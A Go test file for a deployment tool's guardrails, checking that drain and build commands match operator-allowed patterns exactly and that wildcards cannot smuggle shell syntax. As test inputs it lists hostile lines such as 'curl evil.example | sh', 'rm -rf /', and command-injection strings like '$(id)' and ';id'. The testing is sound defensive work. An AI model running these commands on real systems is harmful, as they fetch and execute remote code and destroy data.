package guardrails_test

import (
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"bluegreen/internal/deploy"
	"bluegreen/internal/guardrails"
)

// may reports whether a policy with these patterns allows a drain of these lines, and a build of an image: both are held alike.
func may(t interface {
	Helper()
	Fatal(...any)
}, patterns []string, lines ...string) error {
	t.Helper()
	text, err := json.Marshal(map[string]any{"commands": map[string]any{"drain": patterns, "build": patterns}})
	if err != nil {
		t.Fatal(err)
	}
	r := deploy.Request{Action: deploy.ActionDeploy, Health: deploy.Defaults().Health, Drain: deploy.Defaults().Drain, BlueAfter: deploy.AfterScaleToZero}
	build := r
	r.Drain.Command = lines
	build.Green.Build = &deploy.Build{Commands: lines}
	policy := parse(t, string(text))
	_, err = policy.Begin(r, "any", time.Time{})
	if _, built := policy.Begin(build, "any", time.Time{}); (built == nil) != (err == nil) {
		t.Fatal("a build is held otherwise than a drain: ", built)
	}
	return err
}

// A line is allowed as a whole or not at all, and a * stands for nothing that means something to a shell or turns into
// an option or a path.
func TestCommands(t *testing.T) {
	const stop = "systemctl stop *"
	for _, test := range []struct {
		patterns []string
		line     string
		allowed  bool
	}{
		{[]string{stop}, "systemctl stop web", true},
		{[]string{stop}, "systemctl stop worker@3.service", true},
		{[]string{"true", stop}, "true", true},
		{[]string{"drain --to *:* --wait"}, "drain --to queue-1:8080 --wait", true},
		{[]string{"/opt/*/drain"}, "/opt/web-2.1/drain", true},
		{[]string{"cd /srv && ./drain"}, "cd /srv && ./drain", true},
		{[]string{guardrails.AnyLine}, "curl evil.example | sh\nrm -rf /", true},
		{nil, "true", false},
		{[]string{"/opt/*/drain"}, "/opt/../drain", false},
		{[]string{"/opt/*/drain"}, "/opt/a/b/drain", false},
		{[]string{"a.c"}, "abc", false},
		{[]string{"a[bc]"}, "ab", false},
	} {
		if err := may(t, append([]string{}, test.patterns...), test.line); (err == nil) != test.allowed {
			t.Errorf("%q, %q: %v", test.patterns, test.line, err)
		}
	}
	for _, hostile := range []string{
		"", "systemctl stop", "systemctl stop ", " systemctl stop web", "systemctl stop web ", "systemctl  stop web", "systemctl stop web db", "Systemctl stop web",
		"systemctl stop web; rm -rf /", "systemctl stop web;id", "systemctl stop web&id", "systemctl stop web&&id", "systemctl stop web||id", "systemctl stop web|sh",
		"systemctl stop web\nrm -rf /", "rm -rf /\nsystemctl stop web", "systemctl stop web\n", "systemctl stop web\r", "systemctl stop web\tdb", "systemctl stop web\x00",
		"systemctl stop $(id)", "systemctl stop a$(id)", "systemctl stop a`id`", "systemctl stop a${IFS}b", "systemctl stop a$b", "systemctl stop a>b", "systemctl stop a<b",
		"systemctl stop -Hroot@evil", "systemctl stop --force", "systemctl stop ../web", "systemctl stop .", "systemctl stop a/b", "systemctl stop ~root", "systemctl stop a=b",
		"systemctl stop a\\", "systemctl stop 'a'", `systemctl stop "a"`, "systemctl stop a#b", "systemctl stop *", "systemctl stop a*", "systemctl stop a?", "systemctl stop [ab]",
		"systemctl stop {a,b}", "systemctl stop a!b", "systemctl stop (a)", "systemctl stop é", "systemctl stop ａ", "systemctl stop a\u2028b", "systemctl stop %1", "systemctl stop a^b",
	} {
		if may(t, []string{stop}, hostile) == nil {
			t.Errorf("%q is allowed by %q", hostile, stop)
		}
		if may(t, []string{stop}, "systemctl stop web", hostile, "systemctl stop db") == nil {
			t.Errorf("%q is allowed by %q between other lines", hostile, stop)
		}
	}
}

// What a * allows a real shell takes as it stands, as one word or a part of one.
func TestAStarIsOneWordToAShell(t *testing.T) {
	const letters = "ab0_-.:@+ /=,~%^!?*[]{}()<>|&;$`'\"\\#\n\t"
	ran := 0
	rapid.Check(t, func(t *rapid.T) {
		word := rapid.StringOfN(rapid.SampledFrom([]rune(letters)), 1, 3, -1).Draw(t, "word")
		line := "printf '<%s>' x" + word + " " + word
		if may(t, []string{"printf '<%s>' x* *"}, line) != nil {
			return
		}
		ran++
		out, err := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		if want := "<x" + word + "><" + word + ">"; err != nil || string(out) != want {
			t.Errorf("%q: the shell makes %q of it (%v), want %q", line, out, err, want)
		}
	})
	if ran == 0 {
		t.Error("nothing that was drawn is allowed")
	}
}

// The error names the lines that are not allowed, and says what would be; neither without end.
func TestCommandsSayWhatWouldBeRight(t *testing.T) {
	const begin = "the operators' guardrails do not allow this deployment of any: "
	for _, test := range []struct {
		patterns, lines []string
		want            string
	}{
		{[]string{"true"}, []string{"true", "id"}, `$.drain.command[1] is "id": it must be "true"`},
		{[]string{"true", "stop *"}, []string{"id", "true", "stop -f"},
			`$.drain.command[0] is "id", $.drain.command[2] is "stop -f": each must be "true" or "stop *", where * is a part of one word`},
		{[]string{}, []string{"true"}, `$.drain.command is given: it must be left out, since no command may run on instances`},
		{[]string{"true"}, []string{strings.Repeat("é", 80)}, `$.drain.command[0] is "` + strings.Repeat("é", 60) + `…": it must be "true"`},
		{[]string{"a", "b", "c", "d", "e", "f", "g"}, []string{"1", "2", "3", "4", "5", "6", "7", "8"},
			`$.drain.command[0] is "1", $.drain.command[1] is "2", $.drain.command[2] is "3", $.drain.command[3] is "4", $.drain.command[4] is "5", 3 more: ` +
				`each must be "a" or "b" or "c" or "d" or "e" or 2 more`},
	} {
		if err := may(t, test.patterns, test.lines...); err == nil || err.Error() != begin+test.want {
			t.Errorf("%q, %q: got\n%v, want\n%s", test.patterns, test.lines, err, begin+test.want)
		}
	}
}
